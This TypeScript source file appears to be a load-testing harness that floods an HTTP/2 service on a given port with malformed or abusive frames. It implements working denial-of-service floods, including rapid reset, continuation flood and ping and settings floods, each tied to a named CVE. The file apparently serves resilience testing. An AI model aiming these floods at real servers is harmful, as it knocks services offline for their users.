import { setTimeout as pause } from "node:timers/promises";
import { callHeaders } from "../../bench/header-block.ts";
import { frame, frameFlag, frameType } from "../../bench/http2-frame.ts";
import type { Load } from "../../bench/load.ts";
import { FloodConnection, type Met } from "./flood-connection.ts";

export interface FrameFloodOptions {
  readonly attack: keyof typeof frameFloods;
  readonly port: number;
  readonly isSecure?: boolean;
  /** Never reads the answers. */
  readonly isDeaf?: boolean;
  readonly framesPerSecond: number;
}

export interface FrameFloodResult extends Met {
  readonly frames: number;
  readonly isClosed: boolean;
}

/** How often frames go out, in ms. */
const stepMs = 5;

/** One connection that sends frames at a rate, until the service ends it. */
export class FrameFlood implements Load<FrameFloodResult> {
  readonly #options: FrameFloodOptions;
  readonly #connection: FloodConnection;
  #frames = 0;
  #isOver = false;

  private constructor(options: FrameFloodOptions, connection: FloodConnection) {
    this.#options = options;
    this.#connection = connection;
  }

  static async start(options: FrameFloodOptions): Promise<FrameFlood> {
    const { port, isSecure = false, isDeaf = false } = options;
    const connection = await FloodConnection.open({ port, isSecure, isDeaf });
    return new FrameFlood(options, connection);
  }

  begin(): void {
    void this.#attack();
  }

  async end(): Promise<FrameFloodResult> {
    this.#isOver = true;
    const { isClosed, met } = this.#connection;
    this.#connection.close();
    return { ...met, frames: this.#frames, isClosed };
  }

  async #attack(): Promise<void> {
    const { attack, framesPerSecond } = this.#options;
    const flood = frameFloods[attack];
    this.#connection.send(flood.first);
    const began = performance.now();
    while (!this.#isOver && !this.#connection.isClosed) {
      const due = ((performance.now() - began) * framesPerSecond) / 1_000;
      const frames: Buffer[] = [];
      for (; this.#frames < due; this.#frames++) frames.push(flood.next(this.#frames));
      this.#connection.send(Buffer.concat(frames));
      await this.#connection.drained();
      await pause(stepMs);
    }
  }
}

interface Flood {
  readonly first: Buffer;
  /** The nth frame, or the few that belong together. */
  readonly next: (n: number) => Buffer;
}

const nothing = Buffer.alloc(0);
const openCall = callHeaders("StreamScores");
const { data, headers, ping, resetStream, settings, windowUpdate } = frameType;
const [priority, continuation] = [2, 9];

/** Opens the nth stream of a connection. */
function opening(n: number): Buffer {
  const block = n === 0 ? openCall.first : openCall.again;
  return frame({ type: headers, flags: frameFlag.endHeaders, streamId: 1 + 2 * n }, block);
}

function uint32(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
}

/** Each of the floods of frames that HTTP/2 servers were brought down by. */
export const frameFloods = {
  /** CVE-2023-44487: streams that are opened and reset at once. */
  "rapid reset": {
    first: nothing,
    next: (n) => {
      const streamId = 1 + 2 * n;
      return Buffer.concat([opening(n), frame({ type: resetStream, streamId }, uint32(8))]);
    },
  },
  /** CVE-2025-8671: the service is made to reset each stream itself. */
  "made you reset": {
    first: nothing,
    next: (n) => {
      const streamId = 1 + 2 * n;
      return Buffer.concat([opening(n), frame({ type: windowUpdate, streamId }, uint32(0))]);
    },
  },
  "streams beyond the most at a time": { first: nothing, next: opening },
  "ping flood": { first: nothing, next: () => frame({ type: ping }, Buffer.alloc(8)) },
  "settings flood": { first: nothing, next: () => frame({ type: settings }, nothing) },
  "window updates": {
    first: nothing,
    next: () => frame({ type: windowUpdate }, uint32(1)),
  },
  "priority flood": {
    first: nothing,
    next: (n) => frame({ type: priority, streamId: 1 + 2 * n }, Buffer.of(0, 0, 0, 0, 1)),
  },
  "frames of no known type": {
    first: nothing,
    next: () => frame({ type: 0x50 }, Buffer.alloc(8)),
  },
  /** CVE-2024-27316: headers that never end. */
  "continuation flood": {
    first: frame({ type: headers, streamId: 1 }, openCall.first),
    next: (n) => {
      const name = Buffer.from(`x-${n}`);
      const field = Buffer.concat([Buffer.of(0x10, name.length), name, Buffer.of(1, 0x61)]);
      return frame({ type: continuation, streamId: 1 }, field);
    },
  },
  /** CVE-2019-9518. */
  "empty data frames": {
    first: opening(0),
    next: () => frame({ type: data, streamId: 1 }, nothing),
  },
} satisfies Record<string, Flood>;
